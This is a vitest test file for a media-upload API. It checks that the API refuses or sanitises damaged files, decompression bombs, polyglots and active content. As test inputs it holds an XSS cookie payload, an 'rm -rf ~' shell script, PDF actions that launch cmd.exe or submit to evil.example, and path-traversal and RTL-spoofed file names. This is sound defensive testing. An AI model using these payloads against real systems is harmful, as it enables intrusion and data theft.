import { readdir, readFile } from "node:fs/promises";
import { deflateSync, gzipSync } from "node:zlib";
import { eq } from "drizzle-orm";
import sharp from "sharp";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { media, mediaFiles } from "../../../db/schema/media.ts";
import { box, createMp4, PLACE } from "../../../media-library/test-support/mp4-files.ts";
import { createPdf, objectStream } from "../../../media-library/test-support/pdf-files.ts";
import {
  blackPng,
  PHONE_HEIC,
  phoneJpeg,
  twoColours,
  withHeifSize,
  withJpegSize,
  withPngChunk,
  withWebpSize,
} from "../../../media-library/test-support/picture-files.ts";
import { type FormPart, multipartBody } from "../test-support/multipart.ts";
import { type Client, createTestStaffApi, type TestStaffApi } from "../test-support/test-staff-api.ts";

const UNKNOWN =
  "The file is neither a picture (JPEG, PNG, WebP, AVIF, HEIC, SVG), a PDF, a video (MP4) nor captions (WebVTT).";
const DAMAGED = "The file is damaged and cannot be read.";
const TOO_MANY_PIXELS = "The picture has more than 50 megapixels. Make it smaller first.";
const ACTIVE =
  "The PDF contains scripts, actions or other files. Save it without them, for example by printing it as a PDF.";
const TOO_LONG_VIDEO = "The video is longer than 90 seconds. Cut it first.";
const OTHER_VIDEO =
  "The video is not an MP4 with H.264 and AAC, which all browsers play. Upload it with Chrome, Edge or Safari: they convert it.";
const TOO_LONG = "This value is too long. It should have 200 characters or less.";
const ONE_FILE = "The form cannot be read. Send one file, with few short fields.";
const SCRIPT = "<script>alert(document.cookie)</script>";
const JPEG = { mediaType: "image/jpeg", width: 320, height: 240 };

let api: TestStaffApi;
let editor: Client;

beforeAll(async () => {
  api = await createTestStaffApi();
  editor = await api.signIn(["editor"]);
});
afterAll(() => api.close());

const jpeg = () => twoColours().jpeg().toBuffer();
const png = () => twoColours().png().toBuffer();
const webp = () => twoColours().webp().toBuffer();
const avif = () => twoColours().avif({ effort: 0 }).toBuffer();
const cut = async (file: Promise<Buffer>) => {
  const bytes = await file;
  return bytes.subarray(0, Math.floor(bytes.length / 2));
};

async function upload(parts: readonly FormPart[]) {
  const { headers, payload } = multipartBody(parts);
  const url = "/staff/api/media";
  const response = await api.request({ method: "POST", url, headers: { ...headers, cookie: editor.cookie }, payload });
  const { violations, ...item } = response.json();
  return {
    status: response.statusCode,
    violations: violations?.map(({ propertyPath, message }: Record<string, string>) => [propertyPath, message]),
    item,
  };
}

const uploadFile = (body: Buffer, fileName = "photo.jpg", type = "image/jpeg") =>
  upload([{ name: "file", fileName, type, body }]);

/** Reads the stored contents of an item. */
async function contentsOf({ id }: { id: number }): Promise<Buffer> {
  const [row] = await api.db.select({ sha256: media.sha256 }).from(media).where(eq(media.id, id));
  const sha256 = String(row?.sha256);
  return readFile((await api.storage.fetch(`library/${sha256.slice(0, 2)}/${sha256}`)) as string);
}

const drawing = (content: string) =>
  `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 40 20">${content}</svg>`;

const countStored = async () => [await api.db.$count(media), await api.db.$count(mediaFiles)];

describe("an upload is refused that is", () => {
  const text = (body: string) => async () => Buffer.from(body);
  const damagedPdf = createPdf();
  test.each<[string, () => Promise<Buffer>, string, string?, string?]>([
    ["empty", text(""), "The file is empty."],
    ["one byte", text("\xff"), UNKNOWN],
    ["a text named as a picture", text("hello"), UNKNOWN],
    ["HTML named as a picture", text(`<!doctype html>${SCRIPT}`), UNKNOWN],
    ["a drawing of nothing but a script", text(`<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}`), DAMAGED, "a.svg"],
    ["a drawing that is too large", text(drawing("<g/>".repeat(60_000))), "The drawing has more than 200 kB.", "a.svg"],
    ["compressed SVG", async () => gzipSync("<svg/>"), UNKNOWN, "a.svgz"],
    ["a script", text("#!/bin/sh\nrm -rf ~"), UNKNOWN, "photo.jpg.sh"],
    ["a program named as PNG", async () => Buffer.from(`4d5a9000${"00".repeat(500)}`, "hex"), UNKNOWN, "a.png"],
    ["an archive", async () => Buffer.from(`504b0304${"00".repeat(500)}`, "hex"), UNKNOWN, "a.docx"],
    ["GIF", () => twoColours().gif().toBuffer(), UNKNOWN, "a.gif", "image/gif"],
    ["TIFF", () => twoColours().tiff().toBuffer(), UNKNOWN, "a.tif", "image/tiff"],
    ["a video of another format", async () => Buffer.from("1a45dfa3".padEnd(200, "0"), "hex"), UNKNOWN, "a.webm"],
    [
      "the beginning of a video",
      async () => Buffer.from("00000018667479706d703432000000006d70343269736f6d", "hex"),
      DAMAGED,
      "a.mp4",
    ],
    ["half a video", () => cut(Promise.resolve(createMp4())), DAMAGED, "a.mp4"],
    ["a video without an end", async () => createMp4().subarray(0, -1), DAMAGED, "a.mp4"],
    ["a video with a box of four gigabytes", async () => withSize(createMp4(), "mdat", 0xffffffff), DAMAGED, "a.mp4"],
    ["a video with a box of no size", async () => withSize(createMp4(), "mdia", 3), DAMAGED, "a.mp4"],
    ["a video whose track leaves its parent", async () => withSize(createMp4(), "stbl", 60_000), DAMAGED, "a.mp4"],
    [
      "a video of many small boxes",
      async () => createMp4({ after: Buffer.concat(Array(500).fill(box("free"))) }),
      DAMAGED,
      "a.mp4",
    ],
    [
      "a video with many small boxes in it",
      async () => createMp4({ inMoov: Buffer.concat(Array(5000).fill(box("free"))) }),
      DAMAGED,
      "a.mp4",
    ],
    [
      "a video with a list of nine megabytes",
      async () => createMp4({ inMoov: box("udta", Buffer.alloc(9_000_000)) }),
      DAMAGED,
      "a.mp4",
    ],
    ["a video of no length", async () => createMp4({ seconds: 0 }), DAMAGED, "a.mp4"],
    ["a video of 92 seconds", async () => createMp4({ seconds: 92 }), TOO_LONG_VIDEO, "a.mp4"],
    [
      "sound without pictures",
      async () => createMp4({ codec: "", sound: "mp4a" }),
      "The file has sound, but no pictures.",
      "a.mp4",
    ],
    ["a video in fragments", async () => createMp4({ after: box("moof") }), OTHER_VIDEO, "a.mp4"],
    ["a video with another codec", async () => createMp4({ codec: "hvc1" }), OTHER_VIDEO, "a.mov"],
    ["a video with other sound", async () => createMp4({ sound: "samr" }), OTHER_VIDEO, "a.mp4"],
    [
      "a video with the places of its way",
      async () => createMp4({ further: "meta" }),
      expect.stringMatching(/^The video has more than one/) as never,
      "a.mp4",
    ],
    [
      "a video of 4K",
      async () => createMp4({ width: 3840, height: 2160 }),
      expect.stringMatching(/1920 pixels/) as never,
      "a.mp4",
    ],
    [
      "a video larger than 40 MB",
      async () => createMp4({ after: box("free", Buffer.alloc(40_000_000)) }),
      "The video has more than 40 MB. Take a shorter one.",
      "a.mp4",
    ],
    ["captions without words", text("WEBVTT\n\nNothing"), DAMAGED, "a.vtt"],
    [
      "captions that are no text",
      async () => Buffer.from("WEBVTT\n\n00:01.000 --> 00:02.000\n\xff\xfe", "latin1"),
      DAMAGED,
      "a.vtt",
    ],
    [
      "large captions",
      text(`WEBVTT\n\n00:01.000 --> 00:02.000\n${"x".repeat(200_000)}`),
      "The captions have more than 200 kB.",
      "a.vtt",
    ],
    ["HTML in front of a PDF", async () => Buffer.concat([Buffer.from(SCRIPT), createPdf()]), UNKNOWN, "a.pdf"],
    ["a bomb as PNG", async () => blackPng(60_000, 20_000), TOO_MANY_PIXELS],
    ["a PNG that claims to be two billion wide", async () => blackPng(2_000_000_000, 1), DAMAGED],
    ["a bomb as JPEG", async () => withJpegSize(await jpeg(), 65_000, 65_000), TOO_MANY_PIXELS],
    ["a bomb as WebP", async () => withWebpSize(await webp(), 16_000, 16_000), TOO_MANY_PIXELS],
    ["a bomb as AVIF", async () => withHeifSize(await avif(), 30_000, 30_000), TOO_MANY_PIXELS],
    ["a bomb as HEIC", async () => withHeifSize(PHONE_HEIC, 30_000, 30_000), TOO_MANY_PIXELS],
    ["a HEIC that lies about its size", async () => withHeifSize(PHONE_HEIC, 4000, 3000), DAMAGED],
    ["half a JPEG", () => cut(jpeg()), DAMAGED],
    ["half a PNG", () => cut(png()), DAMAGED],
    ["half a WebP", () => cut(webp()), DAMAGED],
    ["half an AVIF", () => cut(avif()), DAMAGED],
    ["half a HEIC", () => cut(Promise.resolve(PHONE_HEIC)), DAMAGED],
    ["noise after the first bytes of a JPEG", async () => Buffer.from(`ffd8ff${"5a".repeat(9000)}`, "hex"), DAMAGED],
    ["half a PDF", () => cut(Promise.resolve(damagedPdf)), DAMAGED, "a.pdf", "application/pdf"],
    [
      "a PDF with a script",
      async () => createPdf(["4 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n"]),
      ACTIVE,
    ],
    [
      "a PDF that starts a program",
      async () => createPdf(["4 0 obj\n<< /S /#4caunch /F (cmd.exe) >>\nendobj\n"]),
      ACTIVE,
    ],
    ...[
      "/OpenAction << /S /Named /N /Print >>",
      "/OpenAction 5 0 R",
      "/AA << /O 5 0 R >>",
      "/A << /S /SubmitForm /F (https://evil.example) >>",
      "/A << /S /GoToR /F (\\\\evil.example\\share) >>",
      "/A << /S /GoToE /T << /R /C >> >>",
      "/A << /S /ImportData /F (a.fdf) >>",
      "/AcroForm << /#58FA 5 0 R >>",
      "/S /Rendition /JS (app.alert(1))",
    ].map((entry): [string, () => Promise<Buffer>, string] => [
      `a PDF with ${entry}`,
      async () => createPdf([`4 0 obj\n<< ${entry} >>\nendobj\n`]),
      ACTIVE,
    ]),
    ["a PDF with a hidden action", async () => createPdf([objectStream("4 0 << /AA << /O 5 0 R >> >>")]), ACTIVE],
    ["a PDF with hidden files", async () => createPdf([objectStream("4 0 << /Type /EmbeddedFile >>")]), ACTIVE],
    ["a bomb as PDF", async () => createPdf([objectStream(Buffer.alloc(200_000_000))]), DAMAGED],
    [
      ...(["a PDF with a password", async () => createPdf([], "/Encrypt 5 0 R")] as const),
      "The PDF is protected by a password. Save it without one.",
    ],
    [
      "larger than 50 MB",
      async () => Buffer.concat([await jpeg(), Buffer.alloc(50_000_000)]),
      "The file has more than 50 MB.",
    ],
  ])("%s", async (_name, create, message, fileName, type) => {
    const before = await countStored();
    const { status, violations } = await uploadFile(await create(), fileName, type);
    expect([status, violations]).toEqual([422, [["file", message]]]);
    expect(await countStored()).toEqual(before);
  });
});

test("a PDF with links, a first page and what looks like an action in its pictures is taken", async () => {
  const picture = Buffer.from(
    "5 0 obj\n<< /Length 20 >>\nstream\n\x00/AA\x01/JS\x02/XFA\nendstream\nendobj\n",
    "latin1",
  );
  const link =
    "4 0 obj\n<< /OpenAction [3 0 R /Fit] /A << /S /URI /URI (https://karoo.example) >> /B << /S /GoTo /D [3 0 R] >> >>\nendobj\n";
  const { status } = await uploadFile(createPdf([link, picture]), "brochure.pdf", "application/pdf");
  expect(status).toBe(201);
});

test("a video keeps its pictures, and loses the place where it was taken", async () => {
  const video = createMp4({
    width: 720,
    height: 1280,
    sound: "mp4a",
    inMoov: Array.from({ length: 300 }).reduce<Buffer>((inner) => box("meta", inner), PLACE),
    after: box("uuid", Buffer.from("-26.2041")),
  });
  const { status, item } = await uploadFile(video, "VID 1.mov", "video/quicktime");
  expect([status, item]).toEqual([
    201,
    expect.objectContaining({ mediaType: "video/mp4", width: 720, height: 1280, durationMs: 12_000, thumbnail: null }),
  ]);
  expect(item.path).toMatch(/^media\/vid-1-\w{8}\.mp4$/);
  const contents = await contentsOf(item);
  expect(contents.length).toBe(video.length);
  expect(video.includes("-26.2041")).toBe(true);
  expect(contents.includes("-26.2041")).toBe(false);
  expect(contents.includes("xyz")).toBe(false);
  // Nothing else has changed.
  const changed = video.map((byte, at) => (byte === contents[at] ? 0 : 1)).reduce((sum, one) => sum + one, 0);
  expect(changed).toBeLessThan(2000);
  expect(contents.includes("pictures and sound")).toBe(true);
});

describe("a picture is encoded anew:", () => {
  const zeros = deflateSync(Buffer.alloc(100_000_000));
  test.each<[string, () => Promise<Buffer>, object, string?]>([
    ["turned as the camera says, without the place", phoneJpeg, { ...JPEG, width: 240, height: 320 }],
    ["HEIC of a phone", async () => PHONE_HEIC, JPEG, "IMG_0001.HEIC"],
    ["PNG named as a PDF", png, JPEG, "brochure.pdf"],
    ["AVIF named as JPEG", avif, JPEG],
    ["with an archive at its end", async () => Buffer.concat([await jpeg(), Buffer.from(`PK\x03\x04${SCRIPT}`)]), JPEG],
    ["with HTML in a text", async () => withPngChunk(await png(), "tEXt", Buffer.from(`Comment\0${SCRIPT}`)), JPEG],
    [
      "with a bomb in a text",
      async () => withPngChunk(await png(), "zTXt", Buffer.concat([Buffer.from("Comment\0\0"), zeros])),
      JPEG,
    ],
    [
      "with a bomb as colour profile",
      async () => withPngChunk(await png(), "iCCP", Buffer.concat([Buffer.from("a\0\0"), zeros])),
      JPEG,
    ],
    ["with a script as comment", async () => withJpegComment(await jpeg(), SCRIPT), JPEG],
    ["in the colours of print", () => twoColours().toColourspace("cmyk").jpeg().toBuffer(), JPEG],
    ["animated", () => animatedWebp(), { ...JPEG, width: 64, height: 48 }],
    ["with 16 bits", () => twoColours().toColourspace("rgb16").png().toBuffer(), JPEG],
    [
      "a drawing with a script and a file of the server",
      async () =>
        Buffer.from(drawing(`${SCRIPT}<image href="file:///etc/passwd"/><path onload="alert(1)" d="M0 0h9v9z"/>`)),
      { mediaType: "image/png", width: 1600, height: 800 },
      "logo.svg",
    ],
    ["transparent", halfTransparent, { ...JPEG, mediaType: "image/png" }],
  ])("%s", async (_name, create, expected, fileName) => {
    const { status, item } = await uploadFile(await create(), fileName);
    expect([status === 201 || status === 200, item]).toEqual([true, expect.objectContaining(expected)]);
    const contents = await contentsOf(item);
    const { exif, xmp, icc, space, depth, pages = 1, width, height } = await sharp(contents).metadata();
    expect({ exif, xmp, icc, space, depth, pages }).toEqual({ space: "srgb", depth: "uchar", pages: 1 });
    expect(item).toMatchObject({ width, height, bytes: contents.length });
    expect(contents.includes("script")).toBe(false);
  });
});

test("colours of a phone's wide range are those of the site's pictures", async () => {
  const { item } = await uploadFile(PHONE_HEIC, "wide.heic");
  const { data, info } = await sharp(await contentsOf(item))
    .raw()
    .toBuffer({ resolveWithObject: true });
  const [red = 0, green = 0, blue = 0] = data.subarray(info.channels * 10);
  // Without its colour profile, the same red would be paler by 13.
  expect(Math.abs(red - 200) + Math.abs(green - 40) + Math.abs(blue - 40)).toBeLessThan(10);
});

describe("the name of a file", () => {
  test.each([
    ["../../../etc/passwd.jpg", "passwd", /^media\/passwd-\w{8}\.jpg$/],
    ["C:\\\\fotos\\\\Kiger front.JPG", "Kiger front", /^media\/kiger-front-\w{8}\.jpg$/],
    ["evil\u202egpj.exe", "evilgpj", /^media\/evilgpj-\w{8}\.jpg$/],
    ["a\u0000b\u0007c.jpg", "a b c", /^media\/a-b-c-\w{8}\.jpg$/],
    [".htaccess", ".htaccess", /^media\/htaccess-\w{8}\.jpg$/],
    ["   .jpg", "Untitled", /^media\/untitled-\w{8}\.jpg$/],
    [`${"long".repeat(1000)}.jpg`, "long".repeat(50), /^media\/(?:long){15}-\w{8}\.jpg$/],
    ["Foto’s van ’n bakkie.jpg", "Foto’s van ’n bakkie", /^media\/foto-s-van-n-bakkie-\w{8}\.jpg$/],
  ])("%j is only a title", async (fileName, title, path) => {
    // Each file differs, since the library stores equal ones once.
    const size = 100 + fileName.length + title.length;
    const { status, item } = await uploadFile(await twoColours(size, 20).jpeg().toBuffer(), fileName);
    expect([status, item.title]).toEqual([201, title]);
    expect(item.path).toMatch(path);
  });
});

describe("a form is refused", () => {
  const small = async () => ({ name: "file", fileName: "a.jpg", body: await twoColours(20, 20).jpeg().toBuffer() });
  const fields = (count: number) => Array.from({ length: count }, (_, i) => ({ name: `field${i}`, body: "x" }));
  test.each<[string, () => Promise<FormPart[]>, [string, string]]>([
    ["without a file", async () => [{ name: "title", body: "A car" }], ["file", "Choose a file."]],
    ["with two files", async () => [await small(), await small()], ["file", ONE_FILE]],
    ["with many fields", async () => [...fields(2000), await small()], ["file", ONE_FILE]],
    [
      "with a long field",
      async () => [{ name: "title", body: "x".repeat(1_000_000) }, await small()],
      ["title", TOO_LONG],
    ],
    [
      "with an unknown field",
      async () => [{ name: "path", body: "x" }, await small()],
      ["path", "This field is not known."],
    ],
    ["with a field of prototypes", async () => [{ name: "__proto__", body: "x" }, await small()], ["file", ONE_FILE]],
    [
      "for an unknown dealer",
      async () => [{ name: "dealerId", body: "99999" }, await small()],
      ["dealerId", "This dealer is not known."],
    ],
    [
      "with a wrong number",
      async () => [{ name: "focusX", body: "1e9" }, await small()],
      ["focusX", expect.any(String)],
    ],
  ])("%s", async (_name, create, violation) => {
    const before = await countStored();
    const { status, violations } = await upload(await create());
    expect([status, violations]).toEqual([422, expect.arrayContaining([violation])]);
    expect((await countStored())[0]).toBe(before[0]);
  });

  test.each([
    ["multipart/form-data", 422],
    ["multipart/form-data; boundary=x", 422],
    ["application/x-www-form-urlencoded", 415],
    ["text/html", 415],
  ])("as %s that it is not", async (type, expected) => {
    const headers = { cookie: editor.cookie, "content-type": type };
    const response = await api.request({ method: "POST", url: "/staff/api/media", headers, payload: "file=x" });
    expect(response.statusCode).toBe(expected);
  });
});

test("no temporary file is left, and the process that decodes still works", async () => {
  expect(await readdir(api.temporary)).toEqual([]);
  expect((await uploadFile(await twoColours(77, 33).jpeg().toBuffer())).status).toBe(201);
});

/** Returns `jpeg` with a comment after its first marker. */
function withJpegComment(jpeg: Buffer, comment: string): Buffer {
  const length = Buffer.alloc(2);
  length.writeUInt16BE(comment.length + 2);
  return Buffer.concat([
    jpeg.subarray(0, 2),
    Buffer.from("fffe", "hex"),
    length,
    Buffer.from(comment),
    jpeg.subarray(2),
  ]);
}

/** Returns `video` with another size of its first box of a type. */
function withSize(video: Buffer, type: string, size: number): Buffer {
  const changed = Buffer.from(video);
  changed.writeUInt32BE(size, changed.indexOf(type) - 4);
  return changed;
}

function halfTransparent(): Promise<Buffer> {
  const background = { r: 200, g: 30, b: 30, alpha: 0.5 };
  return sharp({ create: { width: 320, height: 240, channels: 4, background } })
    .webp()
    .toBuffer();
}

function animatedWebp(): Promise<Buffer> {
  const frame = (background: string) =>
    sharp({ create: { width: 64, height: 48, channels: 3, background } })
      .png()
      .toBuffer();
  return Promise.all([frame("red"), frame("blue")]).then((frames) =>
    sharp(frames, { join: { animated: true } })
      .webp({ loop: 0 })
      .toBuffer(),
  );
}
